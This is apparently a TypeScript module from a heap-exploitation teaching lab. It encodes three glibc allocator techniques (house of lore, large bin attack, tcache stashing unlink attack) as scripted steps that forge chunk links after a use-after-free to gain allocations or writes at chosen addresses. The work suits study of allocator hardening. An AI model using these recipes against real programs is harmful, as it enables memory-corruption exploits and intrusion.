/** Small and large bins: double lists that are tested where a chunk is taken, less where one is put in. */
import { needsCache, type Technique } from '../technique.ts';

export const houseOfLore: Technique = {
  name: 'house_of_lore',
  what: "A small bin's last chunk leads on to forged chunks: the next requests of its size come from there.",
  needs: 'a write after free; the address of the freed chunk',
  corrupts: "a small bin chunk's bk; forged chunks that link back",
  gains: 'a block at an address of choice',
  scope: 'whole',
  run(lab) {
    const { fillers } = lab.facts;
    const steps = Math.max(1, fillers);
    // So that flag P, set behind each chunk taken, falls between the links of the others.
    const spacing = 0x30;
    const target = lab.malloc(0x800, 'target');
    const victim = lab.malloc(0x108, 'victim');
    const blocks = lab.mallocMany(fillers, 0x108);
    lab.malloc(0x18, 'guard');
    if (fillers > 0) lab.freeMany(blocks);
    lab.free(victim);
    lab.say('A large request sorts victim into its small bin.');
    lab.malloc(0x508, 'sorter');
    lab.say(
      'victim.bk leads to a chain of forged chunks. The first links back, which is all that is tested.',
    );
    lab.writeAddress(victim, 0x8, target);
    for (let k = 0; k <= steps; k++) {
      const before = k === 0 ? lab.at(victim, -0x10, 'victim chunk') : target;
      lab.writeAddress(target, k * spacing + 0x10, before, k === 0 ? 0 : (k - 1) * spacing);
      lab.writeAddress(target, k * spacing + 0x18, target, (k + 1) * spacing);
    }
    if (fillers > 0) lab.mallocMany(fillers, 0x108);
    lab.malloc(0x108, 'taken');
    const last = fillers === 0 ? 0 : fillers - 1;
    const seen = last * spacing + 0x10;
    lab.proveSame('the block lies in the target', lab.malloc(0x108, 'won'), target, 0, seen);
  },
};

export const largeBinAttack: Technique = {
  name: 'large_bin_attack',
  what: "A large chunk's link between sizes leads to the target: sorting in a smaller chunk writes its address there.",
  needs: 'a write after free',
  corrupts: "a large bin chunk's bk_nextsize",
  gains: 'a heap address written at a place of choice',
  scope: 'whole',
  run(lab) {
    const target = lab.malloc(0x100, 'target');
    const large = lab.malloc(0x428, 'large');
    lab.malloc(0x18, 'g1');
    const smaller = lab.malloc(0x418, 'smaller');
    lab.malloc(0x18, 'g2');
    lab.free(large);
    lab.malloc(0x438, 'sorter');
    lab.free(smaller);
    lab.say('large is in its bin, smaller waits in unsorted.');
    lab.writeAddress(large, 0x18, target, 0x40 - 0x20);
    lab.malloc(0x438, 'sorter2');
    lab.proveAddress('the address of smaller stands in the target', target, 0x40, smaller, -0x10);
  },
};

export const tcacheStashingUnlinkAttack: Technique = {
  name: 'tcache_stashing_unlink_attack',
  what: 'calloc passes by the cache and takes from a small bin; what is moved into the cache then is not tested.',
  needs: 'a write after free; calloc that does not take from the cache',
  corrupts: "a small bin chunk's bk",
  gains: "a block at an address of choice, and a bin's address written at another",
  scope: 'whole',
  notOn: needsCache,
  run(lab) {
    const { fillers } = lab.facts;
    const target = lab.malloc(0x200, 'target');
    const older = lab.malloc(0x98, 'older');
    lab.malloc(0x18, 'g1');
    const newer = lab.malloc(0x98, 'newer');
    const blocks = lab.mallocMany(fillers, 0x98);
    lab.malloc(0x18, 'g2');
    lab.freeMany(blocks);
    lab.free(older);
    lab.free(newer);
    lab.malloc(0x508, 'sorter');
    lab.say('Two places in the cache: one for newer, one for the forged chunk.');
    lab.malloc(0x98, 'place1');
    lab.malloc(0x98, 'place2');
    lab.writeAddress(newer, 0x8, target, 0x20);
    lab.writeAddress(target, 0x20 + 0x18, target, 0x100);
    lab.calloc(0x98, 'taken');
    const won = lab.malloc(0x98, 'won');
    lab.proveArenaAddress("a bin's address stands in the target", target, 0x110);
    lab.proveSame('the block lies in the target', won, target, 0, 0x30);
  },
};
